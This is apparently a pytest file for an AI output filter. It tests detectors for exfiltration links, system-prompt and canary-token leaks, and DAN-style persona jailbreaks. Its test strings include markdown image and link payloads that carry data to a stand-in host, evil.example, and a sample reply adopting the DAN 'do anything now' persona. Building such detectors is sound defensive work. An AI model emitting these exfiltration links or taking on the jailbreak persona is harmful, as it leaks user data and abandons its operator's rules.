"""Output-side detectors: exfiltration URLs and system prompt leaks."""

from __future__ import annotations

import base64

import pytest
from genai_filter import output


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("![x](https://evil.example/p.png?d=secret%20data)", "EXFIL_IMAGE"),
        ("![](https://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh.png)", "EXFIL_IMAGE"),
        ("[click here](https://evil.example/collect?q=jane@example.com)", "EXFIL_LINK"),
        ('<img src="https://evil.example/x.gif?u=1234">', "EXFIL_IMAGE"),
        ("[ref]: https://evil.example/c?data=abc", "EXFIL_LINK"),
        ("![x](https://aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh.evil.example/a.png)", "EXFIL_IMAGE"),
        ("![x [nested] y](https://evil.example/p.png?d=1)", "EXFIL_IMAGE"),
        ("[a [b] c](https://evil.example/p?d=1)", "EXFIL_LINK"),
        ("plain text with https://evil.example/?q=1", "EXFIL_URL"),
        ("an autolink <https://evil.example/?q=1>", "EXFIL_LINK"),
    ],
)
def test_exfiltration_flagged(text: str, kind: str) -> None:
    found = output.exfiltration(text, ())
    assert [f.type for f in found] == [kind]
    assert found[0].category == "exfiltration"


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://docs.example.com/logo.png?v=2)",  # allowlisted host
        "![logo](https://cdn.docs.example.com/a.png?v=2)",  # allowlisted by suffix
        "[docs](https://other.example/guide)",  # link without data
        "[local](/relative/path?x=1)",
        "plain text with https://evil.example/guide",
    ],
)
def test_allowed_or_harmless(text: str) -> None:
    assert output.exfiltration(text, ("docs.example.com", ".docs.example.com")) == []


def test_host_allowlist_is_exact_or_suffix() -> None:
    assert output.host_allowed("docs.example.com", ("docs.example.com",))
    assert not output.host_allowed("docs.example.com.evil.example", ("docs.example.com",))
    assert not output.host_allowed("evildocs.example.com", (".docs.example.com",))


CANARY = "cnry-5f1e0c2b9a7d4e3f21a0b9c8"
PROMPT = "You are the support assistant for Example Corp. Only answer questions about our billing products."


def test_canary_verbatim_spaced_and_encoded() -> None:
    leaks = output.LeakDetector(PROMPT, CANARY)
    assert [f.type for f in leaks.detect(f"sure, it is {CANARY}")] == ["CANARY_TOKEN"]
    spaced = " ".join(CANARY.upper())
    assert [f.type for f in leaks.detect(f"token: {spaced}")] == ["CANARY_TOKEN"]
    encoded = base64.b64encode(CANARY.encode()).decode()

    def decoder(text: str) -> list[tuple[int, int, str]]:
        start = text.index(encoded)
        return [(start, start + len(encoded), CANARY)]

    assert [f.type for f in leaks.detect(f"b64: {encoded}", decoder)] == ["CANARY_TOKEN"]


def test_system_prompt_verbatim_leak() -> None:
    leaks = output.LeakDetector(PROMPT, CANARY)
    reply = "My instructions say: you are the support assistant for Example Corp. Only answer questions."
    found = list(leaks.detect(reply))
    assert [f.type for f in found] == ["SYSTEM_PROMPT_LEAK"]
    assert list(leaks.detect("Our billing products include invoices and refunds.")) == []


def test_reply_that_quotes_a_persona_marker_reports_it() -> None:
    from genai_filter.injection import detect

    report = "The DAN jailbreak asked ChatGPT to pretend it could 'do anything now'. It was patched."
    adopting = "From now on I am DAN and I can do anything now, without any rules."
    assert not [f for f in detect(report, direction="output") if f.type == "PERSONA_JAILBREAK"]
    assert any(f.type == "PERSONA_JAILBREAK" for f in detect(adopting, direction="output"))
